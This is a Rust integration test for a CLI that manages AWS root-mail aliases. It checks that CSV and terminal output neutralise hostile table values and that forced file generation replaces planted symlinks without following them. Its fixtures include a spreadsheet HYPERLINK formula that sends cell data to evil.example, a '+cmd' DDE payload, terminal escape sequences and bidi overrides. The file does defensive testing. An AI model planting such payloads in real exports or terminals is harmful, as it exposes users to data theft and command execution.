//! Table values are not trusted on output: other tools write the table, so a
//! row can carry spreadsheet formulas and terminal escape sequences. The CLI
//! neutralises formula cells in `pool list --csv` and shows control
//! characters as escapes in the table view, `pool stats`, `alias show` and
//! error messages that quote a value; the provider's diagnostics do the same.

use std::process::{Command, Output, Stdio};
use std::time::Instant;

use rootmail::store::{AliasPool, LegacyRow, StoreConfig};
use testkit::azurite;

/// Values as a hostile or careless writer might leave them.
const FORMULA_OWNER: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
const ESCAPE_MAILBOX: &str = "box\u{1b}]0;pwned\u{7}\u{1b}[2J@company.com";
const ESCAPE_ACCOUNT: &str = "1234\u{1b}[31m5678\u{9b}1m";
const BIDI_OWNER: &str = "+cmd|'/C calc'!A0\u{202e}";

fn cli(table: &str) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_rootmail"));
    c.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("ROOTMAIL_TABLE_ENDPOINT", azurite::shared().endpoint())
        .env("ROOTMAIL_USE_EMULATOR", "true")
        .env("ROOTMAIL_TABLE_NAME", table)
        .stdin(Stdio::null());
    c
}

fn run(table: &str, args: &[&str]) -> Output {
    cli(table).args(args).output().expect("run rootmail")
}

/// Control characters that would act on a terminal (line breaks allowed
/// between lines only where the caller says so).
#[track_caller]
fn assert_inert(what: &str, text: &str, allow_newlines: bool) {
    let bad: Vec<char> = text
        .chars()
        .filter(|c| {
            (c.is_control() && !(allow_newlines && *c == '\n'))
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect();
    assert!(
        bad.is_empty(),
        "{what}: raw control characters {bad:?} in:\n{text:?}"
    );
}

#[test]
fn hostile_table_values_are_neutralised_in_every_output() {
    let started = Instant::now();
    let az = azurite::shared();
    let table = azurite::unique_table_name("hostile");
    let pool = AliasPool::connect(&StoreConfig::emulator(az.endpoint(), &table)).expect("connect");
    let rt = tokio::runtime::Runtime::new().expect("runtime");
    let rows = [
        LegacyRow {
            id: uuid::Uuid::new_v4().to_string(),
            aws_mail: "aws_formula@company.com".into(),
            in_use: true,
            user_mail: FORMULA_OWNER.into(),
            root_mailbox: ESCAPE_MAILBOX.into(),
            aws_account_id: ESCAPE_ACCOUNT.into(),
        },
        LegacyRow {
            id: uuid::Uuid::new_v4().to_string(),
            aws_mail: "@aws_at@company.com".into(),
            in_use: true,
            user_mail: BIDI_OWNER.into(),
            root_mailbox: "-box@company.com".into(),
            aws_account_id: "\t123456789012".into(),
        },
        LegacyRow {
            id: uuid::Uuid::new_v4().to_string(),
            aws_mail: "aws_plain@company.com".into(),
            in_use: false,
            user_mail: String::new(),
            root_mailbox: "\rbox@company.com".into(),
            aws_account_id: String::new(),
        },
    ];
    rt.block_on(async {
        pool.ensure_table().await.expect("table");
        pool.insert_legacy_rows(&rows).await.expect("insert");
    });

    // CSV: no cell a spreadsheet would evaluate, values otherwise intact.
    let out = run(&table, &["pool", "list", "--csv"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let mut cells = 0;
    let mut owners = Vec::new();
    for record in reader.records() {
        let record = record.expect("valid CSV");
        for cell in record.iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?}"
            );
        }
        owners.push(record.get(3).unwrap_or_default().to_owned());
    }
    assert!(
        owners.contains(&format!("'{FORMULA_OWNER}")),
        "the value is kept, only neutralised: {owners:?}"
    );

    // Terminal views: escapes shown, not run.
    let out = run(&table, &["pool", "list"]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert_inert("pool list", &text, true);
    assert!(text.contains("\\x1b[31m"), "the escape is shown: {text}");
    assert_eq!(text.lines().count(), 5, "one line per row:\n{text}");
    let out = run(&table, &["pool", "stats"]);
    assert_inert("pool stats", &String::from_utf8_lossy(&out.stdout), true);
    for email in ["aws_formula@company.com", "@aws_at@company.com"] {
        let out = run(&table, &["alias", "show", email]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_inert("alias show", &String::from_utf8_lossy(&out.stdout), true);
    }

    // An error quoting a table value (the account the alias is linked to).
    let out = run(
        &table,
        &[
            "alias",
            "link",
            "aws_formula@company.com",
            "--account",
            "123456789012",
            "--yes",
        ],
    );
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("already linked"), "{err}");
    assert_inert("error message", &err, true);
    println!(
        "output injection: {cells} CSV cells checked, list/stats/show/error free of raw controls; {:?}",
        started.elapsed()
    );
}

/// `pool generate --force` replaces what is in the folder, never writing
/// through a symlink planted there to another file.
#[test]
fn generate_force_replaces_symlinks_instead_of_following_them() {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = dir.path().join("new");
    std::fs::create_dir_all(&out).expect("mkdir");
    let victim = dir.path().join("victim.txt");
    let other_victim = dir.path().join("other.txt");
    std::fs::write(&victim, "precious").expect("write");
    std::fs::write(&other_victim, "precious too").expect("write");
    std::os::unix::fs::symlink(&victim, out.join("add-aliases.ps1")).expect("symlink");
    std::os::unix::fs::symlink(&other_victim, out.join("aliases.csv")).expect("symlink");
    let result = Command::new(env!("CARGO_BIN_EXE_rootmail"))
        .env_clear()
        .args(["pool", "generate", "--mailbox", "comp009@company.com"])
        .args([
            "--domain",
            "company.com",
            "--count",
            "5",
            "--force",
            "--out",
        ])
        .arg(&out)
        .output()
        .expect("run rootmail");
    assert!(
        result.status.success(),
        "{}",
        String::from_utf8_lossy(&result.stderr)
    );
    assert_eq!(std::fs::read_to_string(&victim).expect("read"), "precious");
    assert_eq!(
        std::fs::read_to_string(&other_victim).expect("read"),
        "precious too"
    );
    for name in ["add-aliases.ps1", "aliases.csv"] {
        let meta = std::fs::symlink_metadata(out.join(name)).expect("metadata");
        assert!(meta.file_type().is_file(), "{name} is a regular file now");
    }
    let script = std::fs::read_to_string(out.join("add-aliases.ps1")).expect("read");
    assert!(script.contains("Set-Mailbox"), "{script}");
    let leftovers: Vec<_> = std::fs::read_dir(&out)
        .expect("read dir")
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .collect();
    assert_eq!(leftovers.len(), 2, "no temporary files left: {leftovers:?}");
}
